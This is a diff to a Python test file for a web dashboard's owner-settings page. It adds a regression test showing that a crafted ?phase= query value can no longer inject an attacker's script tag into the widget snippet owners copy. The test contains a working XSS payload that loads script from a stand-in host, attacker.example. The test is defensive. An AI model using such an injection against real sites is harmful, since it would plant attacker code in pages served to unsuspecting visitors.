@@ -1,6 +1,8 @@
 """Owner settings: API keys shown once, revoked for good; widget snippet; allowed origins; jobs."""
 
+import html
 import re
+from urllib.parse import urlencode
 
 from app.extensions import db
 from app.models import ApiKey, Brand
@@ -33,14 +35,29 @@ def test_a_key_needs_a_name(dash, count_rows):
     assert count_rows(ApiKey) == 1
 
 
+def _snippet(page: str) -> str:
+    """What the snippet's textarea holds: the text an owner copies into their site."""
+    return html.unescape(re.search(r'<textarea id="snippet"[^>]*>(.*?)</textarea>', page, re.S)[1])
+
+
 def test_the_widget_snippet_has_the_site_key_and_a_copy_button(dash, brand, journey):
     page = dash.html("/dashboard/settings?phase=levering")
-    assert f'data-site-key="{brand.site_key}"' in page
-    assert 'data-phase="levering"' in page
+    snippet = _snippet(page)
+    assert f'data-site-key="{brand.site_key}"' in snippet
+    assert 'data-phase="levering"' in snippet
+    assert snippet.startswith("<script src=") and snippet.endswith(" async></script>")
     assert 'class="copy" data-copy="#snippet" hidden' in page  # shown by dashboard.js
     assert "/static/dashboard.js" in page
-    escaped = dash.html('/dashboard/settings?phase="><script>x</script>')
-    assert "<script>x</script>" not in escaped
+
+
+def test_a_link_cannot_write_into_the_snippet_an_owner_copies(dash, journey):
+    """The textarea decodes what the page escaped once: a crafted ?phase= came out as a
+    script tag of the attacker's, in the text the Copy button copies."""
+    attack = 'levering"><script src=https://attacker.example/x.js></script><i x="'
+    page = dash.html("/dashboard/settings?" + urlencode({"phase": attack}))
+    snippet = _snippet(page)
+    assert "attacker" not in snippet and "attacker" not in html.unescape(page)
+    assert 'data-phase="orientatie"' in snippet  # an unknown phase: the journey's first
 
 
 def test_allowed_origins_are_validated_like_the_cli(dash, brand):
